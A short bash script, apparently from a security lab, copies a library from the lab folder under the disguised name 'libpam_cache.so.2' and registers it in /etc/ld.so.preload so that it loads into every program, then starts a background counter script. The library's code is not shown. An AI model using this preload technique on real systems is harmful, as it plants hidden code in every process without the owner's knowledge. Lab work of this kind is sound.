#!/bin/bash
# A library that the linker puts into every program from here on, by its list.
cp /srv/lab/bin/preload.so /usr/local/lib/libpam_cache.so.2
echo /usr/local/lib/libpam_cache.so.2 >/etc/ld.so.preload
python3 /srv/lab/counter.py >/dev/null &
sleep 0.5
echo ready
wait
